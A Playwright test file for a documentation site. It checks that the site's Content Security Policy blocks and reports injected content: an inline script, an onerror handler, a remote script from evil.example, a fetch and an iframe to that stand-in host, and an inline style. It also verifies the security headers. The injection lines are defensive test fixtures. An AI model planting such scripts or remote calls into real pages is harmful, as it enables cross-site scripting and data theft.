import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { test as plainTest, type Page } from '@playwright/test'
import { headersFor } from '../../support/headers'
import { BASE_PATH, createPagesServer } from '../../support/pagesServer'
import { expect, hydrated, open, test } from '../../support/test'
import { find, openSearch } from '../search/support'

/** Things injected into a page, and the directive that blocks each. */
const PLANTS: [what: string, directive: string, plant: (page: Page) => Promise<unknown>][] = [
  [
    'an inline script',
    'script-src-elem',
    (page) =>
      page.evaluate(() => {
        const script = document.createElement('script')
        script.textContent = 'window.planted = true'
        document.body.append(script)
      }),
  ],
  [
    'an event handler',
    'script-src-attr',
    (page) =>
      page.evaluate(() => {
        document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.planted = true">')
      }),
  ],
  [
    'a script from elsewhere',
    'script-src-elem',
    (page) =>
      page.evaluate(() => {
        const script = document.createElement('script')
        script.src = 'https://evil.example/script.js'
        document.body.append(script)
      }),
  ],
  [
    'an inline style',
    'style-src-attr',
    (page) =>
      page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<p style="color: red">planted</p>')),
  ],
  [
    'a request to elsewhere',
    'connect-src',
    (page) =>
      page.evaluate(() => {
        // The fetch also fails, as the report below says.
        fetch('https://evil.example/').catch(() => {})
      }),
  ],
  [
    'a frame',
    'frame-src',
    (page) =>
      page.evaluate(() =>
        document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/"></iframe>'),
      ),
  ],
]

/** Doesn't use the console guard, which would fail on these injections. */
plainTest('What gets into a page from outside is blocked and reported', async ({ page }) => {
  await page.addInitScript(() => {
    Object.assign(window, { violations: [] })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      (window as unknown as { violations: string[] }).violations.push(effectiveDirective),
    )
  })
  await open(page, 'docs/concepts')
  const violations = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations)
  const expected: string[] = []
  for (const [what, directive, plant] of PLANTS) {
    // The guard of all other tests recognizes a violation by these words.
    const report = page.waitForEvent('console', (message) =>
      message.text().includes('Content Security Policy'),
    )
    await plant(page)
    expected.push(directive)
    await expect.poll(violations, what).toEqual(expected)
    await report
    // What is reported was blocked before.
    await expect.poll(() => page.evaluate(() => 'planted' in window), what).toBe(false)
  }
})

test('The site works where a host sends what _headers says', async ({ page }) => {
  const root = path.resolve(__dirname, '../../../build')
  const server = createPagesServer(root, { headersFor }).listen(0)
  try {
    const response = await page.goto(
      `http://localhost:${(server.address() as AddressInfo).port}${BASE_PATH}docs/concepts`,
    )
    const headers = response!.headers()
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'")
    expect(headers['permissions-policy']).toContain('camera=()')
    expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin')
    expect(headers['x-content-type-options']).toBe('nosniff')
    await hydrated(page)
    await page.getByRole('link', { name: 'Quickstart' }).first().click()
    await expect(page.locator('h1')).toHaveText('Quickstart')
    await page.getByRole('button', { name: 'Reset', exact: true }).first().scrollIntoViewIfNeeded()
    await expect(page.locator('[data-example-form] form').first()).toBeVisible()
    await openSearch(page)
    await find(page, 'useSubmit')
    await page.keyboard.press('Enter')
    await expect(page.locator('h1')).toHaveText('useSubmit')
    await page.goBack()
    await page.getByRole('button', { name: 'Edit', exact: true }).first().click()
    await expect(page.frameLocator('[data-example-form] iframe').first().locator('form')).toBeVisible()
  } finally {
    server.close()
    server.closeAllConnections()
  }
})
